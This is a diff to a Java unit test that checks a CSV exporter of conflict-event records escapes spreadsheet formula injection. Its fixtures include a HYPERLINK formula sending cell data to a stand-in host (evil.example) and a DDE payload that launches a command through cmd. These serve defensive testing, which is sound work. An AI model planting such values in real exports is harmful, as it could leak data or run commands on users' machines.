@@ -22,6 +22,7 @@ class CsvFormulaTest {
         ObjectMapper json = new ObjectMapper();
         ObjectNode n = json.valueToTree(SeedFixtures.result004().events().get(0));
         n.putArray("reported_by").add("=HYPERLINK(\"http://evil.example/?\"&A1,\"سانا\")").add("@SUM(1+1)*cmd|' /C calc'!A0");
+        n.putArray("sources");
         n.put("location_ar", "+الزربة");
         n.put("admin2", "\tSY0200");
         ((ObjectNode) n.get("evidence")).put("sentence", "-2+3 قتلى في قصف على الزربة");
@@ -34,11 +35,11 @@ class CsvFormulaTest {
         }
         List<List<String>> rows = ExportFormatTest.Csv.parse(out.toString());
         List<String> row = rows.get(1);
-        assertTrue(row.get(14).startsWith("'=HYPERLINK(\"http://evil.example/?\"&A1,\"سانا\"); @SUM"), row.get(14));
-        assertEquals("'+الزربة", row.get(9));
-        assertEquals("'\tSY0200", row.get(8));
-        assertEquals("'-2+3 قتلى في قصف على الزربة", row.get(15));
-        assertEquals("-74.25", row.get(11), "a negative longitude stays a number");
-        assertEquals("-0.5", row.get(10));
+        assertTrue(row.get(AcledCsvWriter.COLUMNS.indexOf("source")).startsWith("'=HYPERLINK(\"http://evil.example/?\"&A1,\"سانا\"); @SUM"), row.get(AcledCsvWriter.COLUMNS.indexOf("source")));
+        assertEquals("'+الزربة", row.get(AcledCsvWriter.COLUMNS.indexOf("location")));
+        assertEquals("'\tSY0200", row.get(AcledCsvWriter.COLUMNS.indexOf("admin2")));
+        assertEquals("'-2+3 قتلى في قصف على الزربة", row.get(AcledCsvWriter.COLUMNS.indexOf("notes")));
+        assertEquals("-74.25", row.get(AcledCsvWriter.COLUMNS.indexOf("longitude")), "a negative longitude stays a number");
+        assertEquals("-0.5", row.get(AcledCsvWriter.COLUMNS.indexOf("latitude")));
     }
 }
